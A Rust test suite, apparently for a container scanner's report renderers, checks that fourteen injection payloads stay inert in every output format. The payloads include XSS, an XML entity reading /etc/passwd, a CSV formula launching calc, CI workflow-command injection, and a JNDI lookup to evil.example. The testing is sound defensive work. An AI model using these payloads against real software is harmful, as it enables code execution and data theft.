//! Every format against every attack: what an image or a saved report says must stay data, whatever is written of it.
//!
//! The formats are those of the registry, so that a new one is held to this from its first day. What a text is, its own first
//! characters tell.

use super::samples::{attacked, rendered};
use super::{RENDERERS, Renderer, Report, escape};
use quick_xml::events::Event;
use serde_json::Value;

const ATTACKS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "]]></failure><testcase name='x'/>&lt;!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "=cmd|' /C calc'!A0",
    "+1+cmd\"\",=1,\n=2;@x",
    "\x1b[2J\x1b]0;pwned\x07\u{9b}31m",
    "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
    "::error::pwned",
    "a\r\n::error file=x::pwned%0A::stop-commands::x",
    "##vso[task.setvariable variable=x]y\n##[group]",
    "{{ 7 * 7 }}{% for x in range(9) %}${jndi:ldap://evil.example}",
    "[x](javascript:alert(1)) ![x](https://evil.example) @all",
    "javascript:alert(1)",
    "\0\u{fffe}\u{ffff}\u{10ffff}",
];

fn all_formats() -> impl Iterator<Item = &'static dyn Renderer> {
    RENDERERS.iter().copied()
}

/// What holds for every text, in which form soever.
fn assert_harmless(name: &str, text: &str) {
    for line in text.lines() {
        let order = line.trim_start().starts_with("::");
        assert!(!order || name == "github", "{name}: {line}");
    }
    let unsafe_one = |character: char| character != '\n' && escape::is_unsafe(character);
    if let Some(found) = text.chars().find(|&character| unsafe_one(character)) {
        panic!("{name}: {found:?} in\n{text}");
    }
    assert!(!text.contains("##"), "{name}: {text}");
    let start = text.trim_start().to_lowercase();
    if start.starts_with(['{', '[']) && !["table", "template"].contains(&name) {
        serde_json::from_str::<Value>(text).unwrap_or_else(|error| panic!("{name}: {error}"));
    } else if ["<?xml", "<!doctype", "<html"]
        .iter()
        .any(|mark| start.starts_with(mark))
    {
        assert!(!start.contains("<script>alert"), "{name}: {text}");
        assert!(!start.contains("<img src=x"), "{name}: {text}");
        if start.starts_with("<?xml") {
            assert_whole_xml(name, text);
        }
    }
}

fn assert_whole_xml(name: &str, text: &str) {
    let mut reader = quick_xml::Reader::from_str(text);
    let mut depth = 0_u32;
    loop {
        match reader
            .read_event()
            .unwrap_or_else(|error| panic!("{name}: {error}"))
        {
            Event::Start(element) => {
                depth += 1;
                assert!(
                    element.attributes().all(|attribute| attribute.is_ok()),
                    "{name}"
                );
            }
            Event::End(_) => depth -= 1,
            Event::DocType(_) => panic!("{name}: a document type"),
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(depth, 0, "{name}");
    assert!(!text.contains(['\u{fffe}', '\u{ffff}']), "{name}");
}

/// Two cells of a row in one, or a formula.
fn assert_plain_table(name: &str, text: &str, reports: usize) {
    let mut columns = None;
    for line in text.lines() {
        let mut cells = vec![String::new()];
        let mut quoted = false;
        for character in line.chars() {
            match character {
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(String::new()),
                other => cells.last_mut().unwrap().push(other),
            }
        }
        assert!(!quoted, "{name}: {line}");
        assert_eq!(
            *columns.get_or_insert(cells.len()),
            cells.len(),
            "{name}: {line}"
        );
        for cell in cells {
            assert!(
                !cell.trim_start().starts_with(['=', '+', '-', '@']),
                "{name}: {line}"
            );
        }
    }
    assert!(text.lines().count() > reports, "{name}");
}

#[test]
fn no_format_obeys_what_an_image_says() {
    for attack in ATTACKS {
        let report = attacked(attack);
        let several = [report.clone(), report];
        for format in all_formats() {
            for reports in [&several[..1], &several] {
                let text = rendered(format, reports);
                assert!(!text.is_empty(), "{}", format.name());
                assert_harmless(format.name(), &text);
                if format.name() == "csv" {
                    assert_plain_table(format.name(), &text, reports.len());
                }
                assert_eq!(text, rendered(format, reports), "{}", format.name());
            }
        }
    }
}

#[test]
fn every_format_has_something_to_say_of_every_sample() {
    for report in super::samples::all() {
        for format in all_formats() {
            assert_harmless(
                format.name(),
                &rendered(format, std::slice::from_ref(&report)),
            );
        }
    }
    for format in all_formats() {
        rendered(format, &[]);
    }
}

#[test]
fn a_name_of_ten_megabytes_is_written_or_cut_but_not_multiplied() {
    let long = "\u{1b}\u{1f4a9}ab<=".repeat(1 << 20);
    let mut report: Report = super::samples::judged();
    report.findings.truncate(1);
    let purl = report.findings[0].package.purl.clone();
    report.packages.retain(|package| package.purl == purl);
    report.packages[0].name.clone_from(&long);
    report.findings[0].package.name.clone_from(&long);
    for format in all_formats() {
        let text = rendered(format, std::slice::from_ref(&report));
        assert!(
            text.len() < 16 * long.len(),
            "{}: {}",
            format.name(),
            text.len()
        );
    }
}

#[test]
fn places_and_layers_that_are_not_there_break_nothing() {
    let mut report = super::samples::judged();
    report.image.layers.clear();
    report.packages.truncate(1);
    report.findings[0].layer = Some(u32::MAX);
    report.packages[0].locations[0].layer = u32::MAX;
    report.packages[0].locations[0].line = Some(0);
    report.secrets[0].layer = Some(u32::MAX);
    for format in all_formats() {
        assert_harmless(
            format.name(),
            &rendered(format, std::slice::from_ref(&report)),
        );
    }
    report.packages[0].locations.clear();
    for format in all_formats() {
        rendered(format, std::slice::from_ref(&report));
    }
}
